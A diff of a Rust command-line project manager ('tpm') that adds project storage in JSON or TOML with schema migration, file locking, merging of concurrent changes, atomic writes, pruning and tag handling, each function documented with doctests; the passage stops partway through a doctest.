-    Ok(msg)
-}
+    /// Returns true if the project is archived.
+    pub fn is_archived(&self) -> bool {
+        self.archived
+    }
 
-fn listify(items: &[&str]) -> String {
-    let mut list = String::new();
-    for (i, item) in items.iter().enumerate() {
-        if i == items.len() - 1 {
-            list.push_str("and ");
+    /// Returns true if the project has `tag`, ignoring case and surrounding
+    /// whitespace.
+    pub fn has_tag(&self, tag: &str) -> bool {
+        let tag = tag.trim();
+        self.tags.iter().any(|t| t.eq_ignore_ascii_case(tag))
+    }
+
+    /// Sets the project path, trimming surrounding whitespace and any
+    /// trailing path separators.
+    ///
+    /// Returns an error if the new path is empty or contains control characters.
+    pub fn set_path(&mut self, new_path: &str) -> Result<(), DynErr> {
+        let new_path = new_path.trim();
+        if new_path.is_empty() {
+            return Err("Path cannot be empty".into());
         }
-        list.push_str(item);
-        if i != items.len() - 1 {
-            list.push_str(", ");
+        if new_path.chars().any(char::is_control) {
+            return Err("Path cannot contain control characters".into());
         }
+        let trimmed = new_path.trim_end_matches(std::path::is_separator);
+        self.path = if trimmed.is_empty() {
+            // the path was only separators, i.e. the root directory
+            new_path[..1].to_string()
+        } else {
+            trimmed.to_string()
+        };
+        Ok(())
     }
 
-    list
+    /// Returns an error if the project has an empty name or path, e.g. from a
+    /// hand-edited projects file.
+    pub fn is_valid(&self) -> Result<(), DynErr> {
+        if self.name.trim().is_empty() {
+            return Err(format!("Project with path {:?} has an empty name", self.path).into());
+        }
+        if self.path.trim().is_empty() {
+            return Err(format!("Project {} has an empty path", self.name).into());
+        }
+        Ok(())
+    }
 }
 
-/// Shows an interface for editing a project and saves the changes.
-pub fn edit_project(name: &str) -> Result<String, DynErr> {
-    let mut projects = get_projects()?;
-    if let Some(project) = projects.iter_mut().find(|project| project.name == name) {
-        let new_name = Input::<String>::new()
-            .with_prompt("Project name")
-            .default(project.name.clone())
-            .interact_text()?;
-        let new_path = Input::<String>::new()
-            .with_prompt("Project path")
-            .default(project.path.clone())
-            .interact_text()?;
-        project.name = new_name;
-        project.path = new_path;
-        save_projects(&projects)?;
+impl fmt::Display for Project {
+    fn fmt(&self, f: &mut fmt::Formatter) -> fmt::Result {
+        write!(f, "{} ({})", self.label(), self.path)
     }
+}
 
-    Ok(format!("Edited {}!", name))
+/// Projects are ordered by `last_opened` (least recent first), then by name.
+/// The remaining fields only break ties between projects that are otherwise
+/// equal, so the order agrees with `==`.
+///
+/// # Examples
+///
+/// ```
+/// use tpm_lib::Project;
+///
+/// let mut projects: Vec<Project> = serde_json::from_str(
+///     r#"[
+///         {"name": "b", "path": "/", "last_opened": {"secs": 1, "nanos": 0}},
+///         {"name": "c", "path": "/", "last_opened": {"secs": 0, "nanos": 0}},
+///         {"name": "a", "path": "/", "last_opened": {"secs": 1, "nanos": 0}}
+///     ]"#,
+/// )
+/// .unwrap();
+/// projects.sort();
+///
+/// let names = projects.iter().map(|p| p.to_string()).collect::<Vec<_>>();
+/// assert_eq!(names, ["c (/)", "a (/)", "b (/)"]);
+/// ```
+impl Ord for Project {
+    fn cmp(&self, other: &Self) -> CmpOrdering {
+        (&self.last_opened, &self.name)
+            .cmp(&(&other.last_opened, &other.name))
+            .then_with(|| {
+                (
+                    &self.path,
+                    &self.created_at,
+                    &self.description,
+                    &self.tags,
+                    &self.archived,
+                    &self.git_remote,
+                    &self.git_branch,
+                    &self.on_open,
+                    &self.aliases,
+                )
+                    .cmp(&(
+                        &other.path,
+                        &other.created_at,
+                        &other.description,
+                        &other.tags,
+                        &other.archived,
+                        &other.git_remote,
+                        &other.git_branch,
+                        &other.on_open,
+                        &other.aliases,
+                    ))
+            })
+    }
+}
+
+impl PartialOrd for Project {
+    fn partial_cmp(&self, other: &Self) -> Option<CmpOrdering> {
+        Some(self.cmp(other))
+    }
 }
 
+/// The on-disk format of the projects file.
 #[derive(Debug, Clone, Copy, PartialEq)]
-pub enum OpenAction {
-    /// Open the project in the terminal (cd into the project folder)
-    OpenInTerminal,
-    /// Open the project in the default editor
-    OpenInEditor,
+pub enum StorageFormat {
+    Json,
+    Toml,
 }
 
-pub fn open_project(
-    name: &str,
-    open_action: OpenAction,
-    replace_editor: bool,
-) -> Result<String, DynErr> {
-    let mut projects = get_projects()?;
+impl StorageFormat {
+    /// Reads the preferred format from the `TPM_FORMAT` environment variable,
+    /// defaulting to JSON.
+    pub fn preferred() -> Result<Self, DynErr> {
+        let format = env::var("TPM_FORMAT").unwrap_or_default();
+        match format.trim().to_lowercase().as_str() {
+            "" | "json" => Ok(StorageFormat::Json),
+            "toml" => Ok(StorageFormat::Toml),
+            _ => Err(format!("Invalid TPM_FORMAT: {format}. Valid formats: json, toml").into()),
+        }
+    }
 
-    if let Some((i, project)) = projects
-        .clone()
-        .iter_mut()
-        .enumerate()
-        .find(|(_, project)| project.name == name)
-    {
-        projects[i].set_last_opened()?;
+    /// Detects the format of a file from its extension, falling back to
+    /// sniffing its contents.
+    pub fn detect(path: &Path, contents: &str) -> Self {
+        match path.extension().and_then(|ext| ext.to_str()) {
+            Some("json") => StorageFormat::Json,
+            Some("toml") => StorageFormat::Toml,
+            _ if contents.trim_start().starts_with(['[', '{']) => StorageFormat::Json,
+            _ => StorageFormat::Toml,
+        }
+    }
 
-        save_projects(&projects)?;
+    pub fn extension(&self) -> &'static str {
+        match self {
+            StorageFormat::Json => "json",
+            StorageFormat::Toml => "toml",
+        }
+    }
+
+    /// Returns the other format, used to find a projects file to migrate from.
+    fn other(&self) -> Self {
+        match self {
+            StorageFormat::Json => StorageFormat::Toml,
+            StorageFormat::Toml => StorageFormat::Json,
+        }
+    }
+
+    /// Parses a list of projects in this format, migrating older schemas.
+    pub fn parse(&self, contents: &str) -> Result<Vec<Project>, DynErr> {
+        match self {
+            StorageFormat::Json => migrate_projects(contents),
+            StorageFormat::Toml => {
+                let file: ProjectsFile = toml::from_str(contents).map_err(|err| err.to_string())?;
+                check_schema_version(file.schema_version)?;
+                Ok(dedup_projects(file.projects))
+            }
+        }
+    }
 
-        return match open_action {
-            OpenAction::OpenInTerminal => Ok(change_directory(&project.path)?),
-            OpenAction::OpenInEditor => Ok(open_in_editor(&project.path, replace_editor)?),
+    /// Renders a list of projects in this format, using the current schema.
+    pub fn render(&self, projects: &[Project]) -> Result<String, DynErr> {
+        let file = ProjectsFile {
+            schema_version: SCHEMA_VERSION,
+            projects: projects.to_vec(),
         };
+        match self {
+            StorageFormat::Json => Ok(serde_json::to_string_pretty(&file)?),
+            StorageFormat::Toml => {
+                Ok(toml::to_string_pretty(&file).map_err(|err| err.to_string())?)
+            }
+        }
     }
+}
+
+/// The version of the projects file schema written by this version of `tpm`.
+///
+/// Version 0 is the original format: a bare array of projects.
+pub const SCHEMA_VERSION: u32 = 1;
 
-    Err(format!("Project {} not found", name).into())
+/// The top-level structure of the projects file.
+#[derive(Serialize, Deserialize)]
+struct ProjectsFile {
+    #[serde(default)]
+    schema_version: u32,
+    #[serde(default)]
+    projects: Vec<Project>,
 }
 
-pub fn change_directory(new_dir: &str) -> io::Result<String> {
-    let path = Path::new(&new_dir);
-    if path.exists() && path.is_dir() {
-        env::set_current_dir(path)?;
-        let shell = env::var("SHELL").unwrap_or_else(|_| "/bin/sh".to_string());
-        return match Command::new(shell).status() {
-            Ok(status) => {
-                if status.success() {
-                    Ok("changed directory".to_string())
-                } else {
-                    Err(io::Error::new(
-                        io::ErrorKind::Other,
-                        "Failed to change directory",
-                    ))
-                }
-            }
-            Err(err) => Err(err),
-        };
+fn check_schema_version(version: u32) -> Result<(), DynErr> {
+    if version > SCHEMA_VERSION {
+        return Err(format!(
+            "The projects file has schema version {version}, but this version of {APP_NAME} \
+             only understands up to version {SCHEMA_VERSION}. Please upgrade {APP_NAME}."
+        )
+        .into());
     }
 
-    Err(io::Error::new(
-        io::ErrorKind::NotFound,
-        "Directory not found",
-    ))
+    Ok(())
+}
+
+/// Removes duplicate projects, keeping the first occurrence.
+fn dedup_projects(projects: Vec<Project>) -> Vec<Project> {
+    let mut seen = HashSet::new();
+    projects
+        .into_iter()
+        .filter(|project| seen.insert(project.clone()))
+        .collect()
 }
 
-pub fn open_in_editor(path: &str, replace_editor: bool) -> io::Result<String> {
-    let editor = env::var("EDITOR").unwrap_or_else(|_| "vim".to_string());
-    let flag = if replace_editor && editor == "code" {
-        "--reuse-window"
+/// Parses the contents of a JSON projects file, upgrading older schemas to
+/// the current one.
+///
+/// An empty file is treated as an empty list of projects. A file with a
+/// schema version newer than [`SCHEMA_VERSION`] is an error rather than
+/// being discarded.
+///
+/// # Examples
+///
+/// ```
+/// use tpm_lib::migrate_projects;
+///
+/// // version 0 was a bare array of projects
+/// let v0 = r#"[{"name": "foo", "path": "/code/foo", "last_opened": {"secs": 0, "nanos": 0}}]"#;
+/// let projects = migrate_projects(v0).unwrap();
+/// assert_eq!(projects.len(), 1);
+/// assert_eq!(projects[0].to_string(), "foo (/code/foo)");
+/// // fields added after version 0 fall back to their defaults
+/// assert!(tpm_lib::projects_to_json(&projects).unwrap().contains(r#""created_at": 0"#));
+///
+/// assert!(migrate_projects(r#"{"schema_version": 999, "projects": []}"#).is_err());
+/// ```
+pub fn migrate_projects(raw: &str) -> Result<Vec<Project>, DynErr> {
+    if raw.trim().is_empty() {
+        return Ok(vec![]);
+    }
+
+    let value: serde_json::Value = serde_json::from_str(raw)?;
+    let projects = if value.is_array() {
+        serde_json::from_value(value)?
     } else {
-        ""
+        let file: ProjectsFile = serde_json::from_value(value)?;
+        check_schema_version(file.schema_version)?;
+        file.projects
     };
 
-    return match Command::new(&editor).arg(path).arg(flag).status() {
-        Ok(status) => {
-            if status.success() {
-                Ok("opened in editor".to_string())
-            } else {
-                Err(io::Error::new(
-                    io::ErrorKind::Other,
-                    "Failed to open in editor",
-                ))
-            }
+    Ok(dedup_projects(projects))
+}
+
+/// Drops invalid projects (see [`Project::is_valid`]), printing a warning for
+/// each one. If `strict` is true, the first invalid project is an error instead.
+///
+/// # Examples
+///
+/// ```
+/// use tpm_lib::{validate_projects, Project};
+///
+/// let projects: Vec<Project> = serde_json::from_str(
+///     r#"[
+///         {"name": "ok", "path": "/code/ok", "last_opened": {"secs": 0, "nanos": 0}},
+///         {"name": "", "path": "/code/unnamed", "last_opened": {"secs": 0, "nanos": 0}},
+///         {"name": "nowhere", "path": " ", "last_opened": {"secs": 0, "nanos": 0}}
+///     ]"#,
+/// )
+/// .unwrap();
+///
+/// let valid = validate_projects(projects.clone(), false).unwrap();
+/// assert_eq!(valid.len(), 1);
+/// assert_eq!(valid[0].to_string(), "ok (/code/ok)");
+/// assert!(validate_projects(projects, true).is_err());
+/// ```
+pub fn validate_projects(projects: Vec<Project>, strict: bool) -> Result<Vec<Project>, DynErr> {
+    let mut valid = Vec::with_capacity(projects.len());
+    for project in projects {
+        match project.is_valid() {
+            Ok(()) => valid.push(project),
+            Err(err) if strict => return Err(format!("Invalid projects file: {}", err).into()),
+            Err(err) => eprintln!("Warning: skipping invalid project: {}", err),
+        }
+    }
+    Ok(valid)
+}
+
+/// Reads the projects file, returning the projects sorted by last opened
+/// (most recent first).
+///
+/// If the projects file is a directory or isn't valid UTF-8, it's moved to
+/// `projects.json.<timestamp>.bak` (or `projects.toml.<timestamp>.bak`) and an
+/// error saying so is returned, so the next run starts with no projects.
+/// Earlier backups are never overwritten.
+///
+/// # Examples
+///
+/// ```
+/// # let tmp = std::env::temp_dir().join(format!("tpm-doctest-{}", std::process::id()));
+/// # let _ = std::fs::remove_dir_all(&tmp);
+/// # std::fs::create_dir_all(&tmp).unwrap();
+/// # std::env::set_var("HOME", &tmp);
+/// # std::env::set_var("XDG_CONFIG_HOME", tmp.join(".config"));
+/// use std::fs;
+/// use tpm_lib::{get_matches, handler, load_projects_from_disk};
+///
+/// let config_dir = tmp.join("config");
+/// fs::create_dir_all(config_dir.join("projects.json")).unwrap();
+/// let config_dir_arg = config_dir.to_str().unwrap();
+///
+/// let backups = || {
+///     let mut backups = fs::read_dir(&config_dir)
+///         .unwrap()
+///         .map(|entry| entry.unwrap().path())
+///         .filter(|path| path.to_str().unwrap().ends_with(".bak"))
+///         .collect::<Vec<_>>();
+///     backups.sort();
+///     backups
+/// };
+///
+/// let err = handler(&get_matches(["tpm", "--config-dir", config_dir_arg, "info"])).unwrap_err();
+/// assert!(err.to_string().starts_with("projects.json is a directory"));
+/// assert!(backups()[0].is_dir());
+/// assert!(load_projects_from_disk().unwrap().is_empty());
+///
+/// // a second unreadable file gets a backup of its own
+/// fs::write(config_dir.join("projects.json"), b"[{\"name\": \"\xff\"}]").unwrap();
+/// let err = load_projects_from_disk().unwrap_err();
+/// assert!(err.to_string().starts_with("projects.json is not valid UTF-8"));
+/// assert_eq!(backups().len(), 2);
+/// assert!(backups()[0].is_dir());
+/// assert!(backups()[1].is_file());
+/// assert!(load_projects_from_disk().unwrap().is_empty());
+/// # std::fs::remove_dir_all(&tmp).unwrap();
+/// ```
+pub fn load_projects_from_disk() -> Result<Vec<Project>, DynErr> {
+    let (projects_file, format) = get_projects_file()?;
+    let mut file = open_projects_file(true, false, false)?;
+    let mut bytes = Vec::new();
+    file.read_to_end(&mut bytes)?;
+    drop(file);
+    let contents = match String::from_utf8(bytes) {
+        Ok(contents) => contents,
+        Err(_) => {
+            return Err(back_up_unreadable_projects_file(
+                &projects_file,
+                "is not valid UTF-8",
+            ))
         }
-        Err(err) => Err(err),
     };
+    let mut projects = format
+        .parse(&contents)
+        .map_err(|err| format!("Problem reading projects file: {}", err))?;
+    absolutize_project_paths(&mut projects);
+    let mut projects = validate_projects(projects, STRICT.load(Ordering::Relaxed))?;
+    // sort by last opened (most recent first)
+    sort_projects(&mut projects, SortKey::Recent);
+    Ok(projects)
 }
 
-pub fn get_config_dir() -> Result<PathBuf, DynErr> {
-    // check if a .config folder exists in the home directory
-    let home_dir = PathBuf::from(env::var("HOME").unwrap_or("/".to_string())).canonicalize()?;
-    let xdg_config_dir = home_dir.join(".config");
-    let base_dir = if xdg_config_dir.exists() {
-        xdg_config_dir
+/// Reloads the projects from disk, replacing the in-memory projects, and
+/// returns them sorted by last opened (most recent first).
+///
+/// # Examples
+///
+/// ```no_run
+/// use tpm_lib::load_projects;
+///
+/// let projects = load_projects().unwrap_or_default();
+/// for project in &projects {
+///     println!("{}", project);
+/// }
+/// ```
+pub fn load_projects() -> Result<Vec<Project>, DynErr> {
+    let projects = load_projects_from_disk()?;
+    set_projects(&projects)?;
+
+    Ok(projects)
+}
+
+/// Locks the in-memory projects, loading them from disk first if they aren't
+/// loaded, so the guard always holds `Some`.
+///
+/// A failure to load is returned instead of silently starting with no
+/// projects (which the next save would write back to disk).
+fn projects_store() -> Result<MutexGuard<'static, Option<Vec<Project>>>, DynErr> {
+    let mut projects = PROJECTS.lock()?;
+    if projects.is_none() {
+        *projects = Some(load_projects_from_disk()?);
+    }
+
+    Ok(projects)
+}
+
+/// Returns a copy of the in-memory projects, loading them from disk on first
+/// access. Safe to call from multiple threads.
+///
+/// # Examples
+///
+/// ```
+/// # let tmp = std::env::temp_dir().join(format!("tpm-doctest-{}", std::process::id()));
+/// # let _ = std::fs::remove_dir_all(&tmp);
+/// # std::fs::create_dir_all(&tmp).unwrap();
+/// # std::env::set_var("HOME", &tmp);
+/// # std::env::set_var("XDG_CONFIG_HOME", tmp.join(".config"));
+/// use std::thread;
+/// use tpm_lib::get_projects;
+///
+/// let handles = (0..2)
+///     .map(|_| thread::spawn(|| get_projects().unwrap().len()))
+///     .collect::<Vec<_>>();
+/// let counts = handles
+///     .into_iter()
+///     .map(|handle| handle.join().unwrap())
+///     .collect::<Vec<_>>();
+/// assert_eq!(counts[0], counts[1]);
+/// # std::fs::remove_dir_all(&tmp).unwrap();
+/// ```
+pub fn get_projects() -> Result<Vec<Project>, DynErr> {
+    let projects = projects_store()?;
+
+    Ok(projects.as_deref().unwrap_or_default().to_vec())
+}
+
+/// Calls `f` with the in-memory projects without copying them, loading them
+/// from disk on first access. The store stays locked while `f` runs, so `f`
+/// must not save or otherwise update the projects.
+///
+/// # Examples
+///
+/// ```
+/// # let tmp = std::env::temp_dir().join(format!("tpm-doctest-{}", std::process::id()));
+/// # let _ = std::fs::remove_dir_all(&tmp);
+/// # std::fs::create_dir_all(&tmp).unwrap();
+/// # std::env::set_var("HOME", &tmp);
+/// # std::env::set_var("XDG_CONFIG_HOME", tmp.join(".config"));
+/// use tpm_lib::{get_projects, with_projects};
+///
+/// let count = with_projects(|projects| projects.len()).unwrap();
+/// assert_eq!(count, get_projects().unwrap().len());
+///
+/// let names = with_projects(|projects| {
+///     projects
+///         .iter()
+///         .map(|project| project.name().to_string())
+///         .collect::<Vec<_>>()
+/// })
+/// .unwrap();
+/// assert_eq!(names.len(), count);
+/// # std::fs::remove_dir_all(&tmp).unwrap();
+/// ```
+pub fn with_projects<R>(f: impl FnOnce(&[Project]) -> R) -> Result<R, DynErr> {
+    let projects = projects_store()?;
+
+    Ok(f(projects.as_deref().unwrap_or_default()))
+}
+
+pub fn set_projects(projects: &[Project]) -> Result<(), DynErr> {
+    *PROJECTS.lock()? = Some(projects.to_vec());
+
+    Ok(())
+}
+
+/// Keeps only the `max` most recently opened projects, sorting them by
+/// recency. Projects opened within `keep_within` of now are always kept, even
+/// if that means keeping more than `max`. Returns how many were removed.
+///
+/// # Examples
+///
+/// ```
+/// use std::time::{Duration, SystemTime};
+/// use tpm_lib::{prune_to_mru, Project};
+///
+/// let now = SystemTime::now().duration_since(SystemTime::UNIX_EPOCH).unwrap().as_secs();
+/// let projects: Vec<Project> = serde_json::from_str(&format!(
+///     r#"[
+///         {{"name": "old", "path": "/", "last_opened": {{"secs": 1, "nanos": 0}}}},
+///         {{"name": "today", "path": "/", "last_opened": {{"secs": {}, "nanos": 0}}}},
+///         {{"name": "last-week", "path": "/", "last_opened": {{"secs": {}, "nanos": 0}}}},
+///         {{"name": "this-hour", "path": "/", "last_opened": {{"secs": {}, "nanos": 0}}}}
+///     ]"#,
+///     now - 2 * 60 * 60,
+///     now - 7 * 24 * 60 * 60,
+///     now - 60,
+/// ))
+/// .unwrap();
+/// let names = |projects: &[Project]| projects.iter().map(|p| p.to_string()).collect::<Vec<_>>();
+/// let day = Duration::from_secs(24 * 60 * 60);
+///
+/// let mut pruned = projects.clone();
+/// assert_eq!(prune_to_mru(&mut pruned, 3, day), 1);
+/// assert_eq!(names(&pruned), ["this-hour (/)", "today (/)", "last-week (/)"]);
+///
+/// // projects opened in the last day are never pruned
+/// let mut pruned = projects.clone();
+/// assert_eq!(prune_to_mru(&mut pruned, 1, day), 2);
+/// assert_eq!(names(&pruned), ["this-hour (/)", "today (/)"]);
+/// ```
+pub fn prune_to_mru(projects: &mut Vec<Project>, max: usize, keep_within: Duration) -> usize {
+    sort_projects(projects, SortKey::Recent);
+    let now = SystemTime::now()
+        .duration_since(SystemTime::UNIX_EPOCH)
+        .unwrap_or_default();
+    let recent = projects
+        .iter()
+        .take_while(|project| now.saturating_sub(project.last_opened) <= keep_within)
+        .count();
+    let before = projects.len();
+    projects.truncate(max.max(recent));
+    before - projects.len()
+}
+
+/// Saves the projects to the projects file.
+///
+/// Another `tpm` may have saved since the projects were loaded, so while
+/// holding the config directory lock, the projects file is read again and
+/// its changes are merged in with [`merge_concurrent_changes`].
+pub fn save_projects(projects: &[Project]) -> Result<(), DynErr> {
+    write_projects(projects, true)
+}
+
+/// Writes the projects file, first snapshotting the previous contents into
+/// the history directory for `tpm undo` when `snapshot` is set.
+fn write_projects(projects: &[Project], snapshot: bool) -> Result<(), DynErr> {
+    let _lock = lock_config_dir()?;
+    let loaded = PROJECTS.lock()?.clone();
+    let mut projects = match loaded {
+        Some(loaded) => {
+            let on_disk = load_projects_from_disk()
+                .map_err(|err| format!("Could not reload the projects file to save: {}", err))?;
+            merge_concurrent_changes(&loaded, projects, &on_disk)
+        }
+        None => projects.to_vec(),
+    };
+    let config = load_config();
+    if let Some(max) = config.max_projects {
+        // it comes from config.toml, so a huge value keeps everything rather than wrapping
+        let keep_within =
+            Duration::from_secs(config.keep_opened_within_days.saturating_mul(24 * 60 * 60));
+        let pruned = prune_to_mru(&mut projects, max, keep_within);
+        if pruned > 0 {
+            eprintln!(
+                "Removed {} least recently opened projects to stay under max_projects ({})",
+                pruned, max
+            );
+        }
+    }
+    let projects = projects.as_slice();
+    let format = StorageFormat::preferred()?;
+    let contents = if config.store_relative_paths {
+        let base = default_projects_dir();
+        let stored = projects
+            .iter()
+            .cloned()
+            .map(|mut project| {
+                project.path = relativize_path(&project.path, &base);
+                project
+            })
+            .collect::<Vec<_>>();
+        format.render(&stored)?
     } else {
-        // use the home directory
-        home_dir
+        format.render(projects)?
     };
-    let config_dir = base_dir.join(APP_NAME);
-    if !config_dir.exists() {
-        fs::create_dir(&config_dir)?;
+    if snapshot {
+        snapshot_projects(&contents)?;
     }
+    let projects_file = get_config_dir()?.join(format!("projects.{}", format.extension()));
+    write_atomic(&projects_file, &contents)?;
+    set_projects(projects)?;
+
+    // also save a list of project names to a file for use in bash completion
+    let names_vec: Vec<&str> = projects
+        .iter()
+        .map(|project| project.name.as_str())
+        .collect();
+    let names = names_vec.join("\n");
+    write_atomic(&get_config_dir()?.join("project_names.txt"), &names)?;
 
-    Ok(config_dir)
+    Ok(())
 }
 
-pub fn open_projects_file(read: bool, write: bool, create: bool) -> Result<File, DynErr> {
-    let config_dir = get_config_dir()?;
-    let projects_file = config_dir.join("projects.json");
+/// Takes the advisory lock on the config directory (the `.lock` file in it),
+/// waiting for any other `tpm` holding it. The lock is released when the
+/// returned file is dropped.
+pub(crate) fn lock_config_dir() -> Result<File, DynErr> {
+    let lock_file = fs::OpenOptions::new()
+        .create(true)
+        .truncate(false)
+        .write(true)
+        .open(get_config_dir()?.join(".lock"))?;
+    lock_file.lock()?;
+    Ok(lock_file)
+}
 
-    // if the file doesn't exist, create it
-    if !projects_file.exists() {
-        File::create(&projects_file)?;
+/// Merges the changes two `tpm`s made to the same projects, by name.
+///
+/// `loaded` is what both started from, `ours` is what this `tpm` wants to
+/// save, and `theirs` is what the other one saved in the meantime. Projects
+/// only one side changed, added, or deleted take that side's version. If both
+/// changed a project, ours wins, keeping the later of the two last opened
+/// times.
+///
+/// # Examples
+///
+/// Two `tpm`s open different projects at the same time:
+///
+/// ```
+/// use tpm_lib::{merge_concurrent_changes, Project};
+///
+/// let projects = |json: &str| serde_json::from_str::<Vec<Project>>(json).unwrap();
+/// let loaded = projects(
+///     r#"[{"name": "a", "path": "/a", "last_opened": 1}, {"name": "b", "path": "/b", "last_opened": 1}]"#,
+/// );
+/// // this one opened a
+/// let ours = projects(
+///     r#"[{"name": "a", "path": "/a", "last_opened": 5}, {"name": "b", "path": "/b", "last_opened": 1}]"#,
+/// );
+/// // the other one opened b and added c, and saved first
+/// let theirs = projects(
+///     r#"[
+///         {"name": "a", "path": "/a", "last_opened": 1},
+///         {"name": "b", "path": "/b", "last_opened": 7},
+///         {"name": "c", "path": "/c", "last_opened": 7}
+///     ]"#,
+/// );
+///
+/// let merged = merge_concurrent_changes(&loaded, &ours, &theirs);
+/// let opened = merged
+///     .iter()
+///     .map(|p| (p.name(), p.last_opened().as_secs()))
+///     .collect::<Vec<_>>();
+/// assert_eq!(opened, [("a", 5), ("b", 7), ("c", 7)]);
+/// ```
+pub fn merge_concurrent_changes(
+    loaded: &[Project],
+    ours: &[Project],
+    theirs: &[Project],
+) -> Vec<Project> {
+    let find = |projects: &'_ [Project], name: &str| -> Option<Project> {
+        projects
+            .iter()
+            .find(|project| project.name == name)
+            .cloned()
+    };
+    let mut merged = vec![];
+    for project in ours {
+        let before = find(loaded, &project.name);
+        let changed_by_us = before.as_ref() != Some(project);
+        match find(theirs, &project.name) {
+            Some(their_project) if !changed_by_us => merged.push(their_project),
+            Some(their_project) => {
+                let mut project = project.clone();
+                project.last_opened = project.last_opened.max(their_project.last_opened);
+                merged.push(project);
+            }
+            // deleted by them, unless we changed or added it
+            None if before.is_some() && !changed_by_us => {}
+            None => merged.push(project.clone()),
+        }
+    }
+    for their_project in theirs {
+        let added_by_them = find(loaded, &their_project.name).is_none();
+        if added_by_them && find(ours, &their_project.name).is_none() {
+            merged.push(their_project.clone());
+        }
     }
+    merged
+}
 
-    let open_file = fs::OpenOptions::new()
-        .read(read)
-        .write(write)
-        .create(create)
-        .open(projects_file);
+/// Writes `contents` to `path` without ever leaving it partially written.
+///
+/// The contents are written to a temporary file next to `path`, which is then
+/// renamed over `path`. If anything fails, `path` is left untouched.
+///
+/// # Examples
+///
+/// ```
+/// # let tmp = std::env::temp_dir().join(format!("tpm-doctest-{}", std::process::id()));
+/// # let _ = std::fs::remove_dir_all(&tmp);
+/// # std::fs::create_dir_all(&tmp).unwrap();
+/// # std::env::set_var("HOME", &tmp);
+/// # std::env::set_var("XDG_CONFIG_HOME", tmp.join(".config"));
+/// use std::fs;
+/// use tpm_lib::write_atomic;
+///
+/// let dir = tmp.join("atomic");
+/// fs::create_dir_all(&dir).unwrap();
+/// let file = dir.join("projects.json");
+/// let temp_file = dir.join(".projects.json.tmp");
+/// write_atomic(&file, "[]").unwrap();
+///
+/// // a write that fails part way through leaves the original file intact
+/// fs::create_dir(&temp_file).unwrap();
+/// assert!(write_atomic(&file, "[{\"name\": ").is_err());
+/// assert_eq!(fs::read_to_string(&file).unwrap(), "[]");
+///
+/// fs::remove_dir(&temp_file).unwrap();
+/// write_atomic(&file, "[{}]").unwrap();
+/// assert_eq!(fs::read_to_string(&file).unwrap(), "[{}]");
+/// assert!(!temp_file.exists());
+/// # std::fs::remove_dir_all(&tmp).unwrap();
+/// ```
+pub fn write_atomic(path: &Path, contents: &str) -> Result<(), DynErr> {
+    let file_name = path
+        .file_name()
+        .and_then(|name| name.to_str())
+        .ok_or("Problem getting file name")?;
+    let temp_path = path.with_file_name(format!(".{}.tmp", file_name));
+    let result = File::create(&temp_path)
+        .and_then(|mut file| {
+            file.write_all(contents.as_bytes())?;
+            file.sync_all()
+        })
+        .and_then(|_| fs::rename(&temp_path, path));
+    if result.is_err() && temp_path.is_file() {
+        let _ = fs::remove_file(&temp_path);
+    }
 
-    open_file.map_err(|err| err.into())
+    Ok(result?)
 }
 
-fn filter_valid_name(c: &char) -> bool {
+/// Formats projects as a table with aligned name, path, and last opened
+/// columns, one project per line.
+///
+/// # Examples
+///
+/// ```
+/// use tpm_lib::{format_project_table, Project};
+///
+/// dialoguer::console::set_colors_enabled(false);
+/// let projects: Vec<Project> = serde_json::from_str(
+///     r#"[
+///         {"name": "tpm", "path": "/code/travvy-project-manager", "last_opened": {"secs": 0, "nanos": 0}},
+///         {"name": "my-site", "path": "/srv/site", "last_opened": {"secs": 0, "nanos": 0}}
+///     ]"#,
+/// )
+/// .unwrap();
+///
+/// assert_eq!(
+///     format_project_table(&projects),
+///     "tpm      /code/travvy-project-manager  never\n\
+///      my-site  /srv/site                     never"
+/// );
+/// ```
+pub fn format_project_table(projects: &[Project]) -> String {
+    let width = |column: fn(&Project) -> &str| {
+        projects
+            .iter()
+            .map(|project| console::measure_text_width(column(project)))
+            .max()
+            .unwrap_or(0)
+    };
+    let name_width = width(|project| &project.name);
+    let path_width = width(|project| &project.path);
+
+    projects
+        .iter()
+        .map(|project| {
+            let name = console::pad_str(&project.name, name_width, console::Alignment::Left, None);
+            let path = console::pad_str(&project.path, path_width, console::Alignment::Left, None);
+            format!(
+                "{}  {}  {}",
+                console::style(name).bold(),
+                path,
+                console::style(format_relative_time(project.last_opened)).dim()
+            )
+        })
+        .collect::<Vec<_>>()
+        .join("\n")
+}
+
+/// Splits comma-separated tags, trimming each one and dropping empty and
+/// duplicate (ignoring case) tags.
+///
+/// # Examples
+///
+/// ```
+/// use tpm_lib::parse_tags;
+///
+/// assert_eq!(parse_tags(" rust, Client-A ,,rust "), vec!["rust", "Client-A"]);
+/// ```
+pub fn parse_tags(input: &str) -> Vec<String> {
+    let mut tags: Vec<String> = vec![];
+    for tag in input
+        .split(',')
+        .map(str::trim)
+        .filter(|tag| !tag.is_empty())
+    {
+        if !tags.iter().any(|t| t.eq_ignore_ascii_case(tag)) {
+            tags.push(tag.to_string());
+        }
+    }
+
+    tags
+}
+
+/// Returns the projects that have `tag`, ignoring case and surrounding whitespace.
+///
+/// # Examples
+///
+/// ```
+/// use tpm_lib::{filter_by_tag, Project};
+///
+/// let mut project = Project::default();
+/// project.set_tags(&["Rust".to_string()]);
+///
+/// assert_eq!(filter_by_tag(&[project.clone()], " rust ").len(), 1);
+/// assert!(filter_by_tag(&[project], "go").is_empty());
+/// ```
+pub fn filter_by_tag(projects: &[Project], tag: &str) -> Vec<Project> {
+    projects
+        .iter()
+        .filter(|project| project.has_tag(tag))
+        .cloned()
+        .collect()
+}
+
+/// Renames the tag `old` (ignoring case) to `new` on every project that has
+/// it, saving the projects once. A project that already has `new` keeps it
+/// only once.
+///
+/// Returns how many projects were changed.
+///
+/// # Examples
+///
+/// ```
+/// # let tmp = std::env::temp_dir().join(format!("tpm-doctest-{}", std::process::id()));
+/// # let _ = std::fs::remove_dir_all(&tmp);
+/// # std::fs::create_dir_all(&tmp).unwrap();
+/// # std::env::set_var("HOME", &tmp);
+/// # std::env::set_var("XDG_CONFIG_HOME", tmp.join(".config"));
+/// use tpm_lib::{add_project, delete_tag, filter_by_tag, get_projects, rename_tag};
+///
+/// for (name, tags) in [("api", "work,rust"), ("site", "Work"), ("notes", "")] {
+///     let dir = tmp.join(name);
+///     std::fs::create_dir_all(&dir).unwrap();
+///     add_project(name, dir.to_str().unwrap(), &tpm_lib::parse_tags(tags), "").unwrap();
+/// }
+///
+/// assert_eq!(rename_tag("work", "rust").unwrap(), "Renamed work to rust on 2 projects");
